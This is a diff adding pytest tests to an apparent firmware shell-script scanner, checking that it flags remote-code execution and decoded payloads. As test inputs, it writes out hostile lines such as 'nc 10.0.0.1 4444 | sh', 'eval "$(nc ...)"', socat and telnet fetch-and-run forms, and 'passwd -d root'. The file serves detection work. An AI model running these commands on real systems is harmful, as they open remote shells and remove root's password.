@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import time
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -146,3 +148,38 @@ def test_any_text_is_read_and_hides_nothing_before_it(text: str) -> None:
     planted = disguised(f"passwd -d root\n{text}\n")
     assert planted == disguised(f"passwd -d root\n{text}\n")
     assert "shell.password_removed" in {hit.rule for hit in planted}
+
+
+@pytest.mark.parametrize("unit", ["eval $(", "eval `", " sh -c $(", "eval (x $(", ". <(", "eval  "])
+def test_openings_without_an_end_cost_little(unit: str) -> None:
+    content = ("#!/bin/sh\n" + unit * 4000).encode()
+    started = time.process_time()
+    shell(content)
+    assert time.process_time() - started < 3
+
+
+def test_too_many_evaluations_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("fwverify.analyse.shell.MAX_EVALUATIONS", 3)
+    line = b'eval "$x"\n'
+    assert shell(b"#!/bin/sh\n" + line * 3)[1] == ()
+    hits, (trouble,) = shell(b"#!/bin/sh\nnc 10.0.0.1 4444 | sh\n" + line * 4)
+    assert trouble.code == "limit.script_evaluations"
+    assert "shell.network_exec" in {hit.rule for hit in hits}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'eval "$(nc 10.0.0.1 4444)"',
+        "eval $(date) $(ncat 10.0.0.1 4444)",
+        'sh -c "$(telnet host 99)"',
+        ". <(socat - tcp:host:1)",
+    ],
+)
+def test_text_from_the_network_is_seen_behind_every_opening(line: str) -> None:
+    assert "shell.network_exec" in {hit.rule for hit in disguised(line)}
+
+
+@pytest.mark.parametrize("line", ["eval $(date; echo $(echo aGk= | base64 -d))", "eval `xxd -r f`"])
+def test_decoded_text_is_seen_behind_every_opening(line: str) -> None:
+    assert "shell.decoded_exec" in {hit.rule for hit in disguised(line)}
